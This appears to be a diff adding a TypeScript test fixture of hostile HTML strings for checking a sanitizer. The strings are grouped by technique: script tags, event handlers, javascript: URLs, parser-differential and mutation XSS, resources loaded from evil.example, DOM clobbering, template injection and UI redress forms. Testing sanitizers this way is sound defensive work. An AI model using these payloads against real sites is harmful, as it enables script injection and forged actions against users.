@@ -1,0 +1,93 @@
+/**
+ * Texts that have been, or could be, taken for markup: by a parser, by a cleaner that reads otherwise than browsers do, or by whoever puts a text
+ * somewhere twice. Where one works it sets `tampered`. By what they try.
+ */
+export const hostileFamilies = {
+  scripts: [
+    '<script>tampered=1</script>',
+    '<ScRiPt src=//evil.example/a.js></sCrIpT>',
+    '</title><script>tampered=1</script>',
+    '</script><script>tampered=1</script>',
+    '<!--<script>tampered=1//',
+    '<script\u2028>tampered=1</script >',
+    '<<script>tampered=1//<</script>',
+  ],
+  handlers: [
+    '<img src=x onerror=tampered=1>',
+    '"><img src=x onerror=tampered=1>',
+    "'><svg onload=tampered=1>",
+    '<img/src/onerror=tampered=1>',
+    '<body onload=tampered=1>',
+    '<details open ontoggle=tampered=1>',
+    '<video><source onerror=tampered=1></video>',
+    '<svg><animate onbegin=tampered=1 attributeName=x>',
+    '" onfocus=tampered=1 autofocus x="',
+    "' onclick='tampered=1",
+    '` onmouseover=tampered=1 `',
+  ],
+  schemes: [
+    'javascript:tampered=1//',
+    '<a href="javascript:tampered=1">a way</a>',
+    '<a href="jav&#x09;ascript:tampered=1">a way</a>',
+    '<a href="java&NewLine;script:tampered=1">a way</a>',
+    '<a href="&#1;javascript&colon;tampered=1">a way</a>',
+    '<a href="vbscript:tampered=1">a way</a>',
+    '<a href="data:text/html,<script>tampered=1</script>">a way</a>',
+    '<svg><a xlink:href="javascript:tampered=1"><text>a way</text></a>',
+  ],
+  'raw text': [
+    '<xmp><img src=x onerror=tampered=1></xmp>',
+    '<noscript><p title="</noscript><img src=x onerror=tampered=1>">',
+    '<textarea></textarea><img src=x onerror=tampered=1>',
+    '<title><p title="</title><img src=x onerror=tampered=1>">',
+    '<iframe><p title="</iframe><img src=x onerror=tampered=1>">',
+    '<noembed><p title="</noembed><img src=x onerror=tampered=1>">',
+    '<plaintext><img src=x onerror=tampered=1>',
+    '<template><img src=x onerror=tampered=1></template>',
+    '<select><selectedcontent><img src=x onerror=tampered=1>',
+  ],
+  'parsed twice': [
+    '<math><mtext><table><mglyph><style><!--</style><p title="--&gt;&lt;img src=x onerror=tampered=1&gt;">',
+    '<svg><style><img src=x onerror=tampered=1></style></svg>',
+    '<svg></p><style><p id="</style><img src=x onerror=tampered=1>">',
+    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=tampered=1>',
+    '<!--><img src=x onerror=tampered=1>-->',
+    '<!-- --!><img src=x onerror=tampered=1>',
+    '<![CDATA[><img src=x onerror=tampered=1>]]>',
+    '<?p ><img src=x onerror=tampered=1>',
+    '&lt;img src=x onerror=tampered=1&gt;',
+    '&amp;lt;script&amp;gt;tampered=1&amp;lt;/script&amp;gt;',
+    '%3Cscript%3Etampered=1%3C/script%3E',
+    '\\u003cscript\\u003etampered=1\\u003c/script\\u003e',
+    '\uff1cscript\uff1etampered=1\uff1c/script\uff1e',
+  ],
+  'loaded from elsewhere': [
+    '<iframe srcdoc="<script>parent.tampered=1</script>"></iframe>',
+    '<img srcset="//evil.example/a 1x">',
+    '<object data="data:text/html,<script>tampered=1</script>">',
+    '<embed src=//evil.example/a>',
+    '<link rel=stylesheet href=//evil.example/a.css>',
+    '<base href=//evil.example/>',
+    '<meta http-equiv=refresh content="0;url=//evil.example/">',
+    '<style>@import "//evil.example/a.css"</style>',
+    '<svg><use href="data:image/svg+xml,<svg id=a onload=tampered=1>#a">',
+    '<input type=image src=//evil.example/a formaction=javascript:tampered=1>',
+  ],
+  'names of the page': ['<a id=text name=desk>a way</a>', '<form id=q name=getElementById>', '<img name=body>'],
+  'what templates take': ["{{constructor.constructor('tampered=1')()}}", '\x24{tampered=1}', '<%= tampered=1 %>'],
+  /** No script: the page itself is made to lie, or to send something for whoever presses. */
+  redress: [
+    '<form action=/desk/api/picks/1/publish method=post><button>Go on</button></form>',
+    '<button formaction=/desk/api/picks/1/delete>Go on</button>',
+    '<div style="position:fixed;inset:0;background:red">',
+    '<style>main{display:none}</style>',
+    '<a target=_blank href=//evil.example/>a way</a>',
+    '<input autofocus name=q>',
+    '<button popovertarget=text>Go on</button>',
+    '<dialog open>Sign in again</dialog>',
+    '<label for=q style=opacity:0>Go on</label>',
+  ],
+} as const
+
+/** All of them. */
+export const hostileTexts: readonly string[] = Object.values(hostileFamilies).flat()
